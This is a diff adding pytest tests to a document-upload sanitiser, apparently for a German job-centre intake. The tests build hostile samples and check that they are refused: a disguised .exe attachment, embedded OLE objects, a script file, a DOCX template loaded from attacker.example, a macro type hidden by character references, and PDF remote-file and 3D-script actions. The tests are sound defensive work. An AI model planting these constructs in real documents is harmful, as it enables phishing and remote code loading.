@@ -595,3 +595,104 @@ def test_safe_filename_cuts_long_names_to_120_characters() -> None:
 def test_messages_name_the_sanitised_file() -> None:
     message = refused("..\\..\\<Brief>:\x07 1.pdf", b"<html><script>x</script></html>")
     assert "„Brief 1.pdf“" in message
+
+
+# --------------------------------------------------------------------------------------------
+# What a file carries inside (review findings): attachments, embedded objects, remote links
+# --------------------------------------------------------------------------------------------
+
+PE = b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 200
+
+
+def eml_with(attachment_name: str, payload: bytes, maintype: str, subtype: str) -> bytes:
+    message = EmailMessage()
+    message["From"] = "Erika Mustermann <erika@example.org>"
+    message["To"] = "jobcenter@example.org"
+    message["Date"] = "Mon, 01 Dec 2025 10:00:00 +0100"
+    message["Subject"] = "Nachweise"
+    message.set_content("Anbei meine Nachweise.")
+    message.add_attachment(payload, maintype=maintype, subtype=subtype, filename=attachment_name)
+    return message.as_bytes()
+
+
+def test_an_email_with_a_harmless_attachment_is_accepted() -> None:
+    data = eml_with("Nachweis.pdf", make_pdf(), "application", "pdf")
+    assert inspect("mail.eml", data).content_type == "message/rfc822"
+
+
+@pytest.mark.parametrize(
+    ("name", "payload", "maintype", "subtype", "reason"),
+    [
+        ("Bescheid.pdf.exe", PE, "application", "octet-stream", "Programm"),
+        ("Nachweis.html", b"<html><script>alert(1)</script></html>", "text", "html", "Webseite"),
+        ("Unterlagen.zip", make_zip({"a.txt": "x"}), "application", "zip", "Archiv"),
+    ],
+)
+def test_an_email_with_a_refused_attachment_is_refused(
+    name: str, payload: bytes, maintype: str, subtype: str, reason: str
+) -> None:
+    message = refused("mail.eml", eml_with(name, payload, maintype, subtype))
+    assert "Anhang, der nicht angenommen wird" in message
+    assert name.split(".")[0] in message
+
+
+def test_an_office_file_with_an_embedded_program_is_refused() -> None:
+    data = rewrite_zip(make_docx(), {"word/embeddings/oleObject1.bin": PE})
+    assert "eingebettete Datei" in refused("bericht.docx", data)
+    packaged = make_ole({"\x01Ole10Native": b"\x00" * 64})
+    data = rewrite_zip(make_docx(), {"word/embeddings/oleObject1.bin": packaged})
+    assert "eingebettete Datei" in refused("bericht.docx", data)
+    data = rewrite_zip(make_docx(), {"word/media/payload.js": "alert(1)"})
+    assert "payload.js" in refused("bericht.docx", data)
+
+
+def test_an_office_file_loading_a_remote_template_is_refused() -> None:
+    rels = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/attachedTemplate" Target="http://attacker.example/evil.dotm" '
+        'TargetMode="External"/></Relationships>'
+    )
+    data = rewrite_zip(make_docx(), {"word/_rels/settings.xml.rels": rels})
+    assert "von außerhalb" in refused("vorlage.docx", data)
+    # An ordinary external hyperlink is no such thing.
+    link = rels.replace("attachedTemplate", "hyperlink")
+    assert inspect("link.docx", rewrite_zip(make_docx(), {"word/_rels/settings.xml.rels": link}))
+
+
+def test_a_macro_content_type_written_with_character_references_is_found() -> None:
+    types = (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.'
+        'macro&#69;nabled.main+xml"/></Types>'
+    )
+    data = make_zip({"[Content_Types].xml": types, "word/document.xml": "<x/>"})
+    assert "Makro" in refused("bericht.docx", data)
+
+
+def test_pdf_actions_that_open_other_files_or_run_3d_scripts_are_refused() -> None:
+    def remote(pdf: pikepdf.Pdf) -> None:
+        pdf.Root.OpenAction = pikepdf.Dictionary(
+            S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\server\\share\\x.pdf"), D=pikepdf.Array([0])
+        )
+
+    def three_d(pdf: pikepdf.Pdf) -> None:
+        pdf.pages[0].Annots = pdf.make_indirect(
+            pikepdf.Array(
+                [
+                    pikepdf.Dictionary(
+                        Type=pikepdf.Name.Annot,
+                        Subtype=pikepdf.Name("/3D"),
+                        Rect=pikepdf.Array([0, 0, 10, 10]),
+                        **{
+                            "/3DD": pikepdf.Dictionary(OnInstantiate=pikepdf.String("app.alert(1)"))
+                        },
+                    )
+                ]
+            )
+        )
+
+    assert "Verweise auf andere Dateien" in refused("verweis.pdf", make_pdf(remote))
+    assert "JavaScript" in refused("modell.pdf", make_pdf(three_d))
